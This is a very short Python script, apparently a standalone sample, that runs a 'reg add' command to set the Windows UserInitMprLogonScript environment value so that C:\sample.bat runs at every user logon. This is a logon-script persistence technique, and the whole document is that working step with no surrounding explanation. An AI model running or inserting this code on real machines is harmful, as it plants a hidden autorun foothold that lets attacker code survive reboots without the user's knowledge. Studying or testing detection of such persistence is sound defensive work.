import subprocess

subprocess.run("reg add HKCU\\Environment /v UserInitMprLogonScript /t REG_SZ /d C:\\sample.bat /f", shell=True)
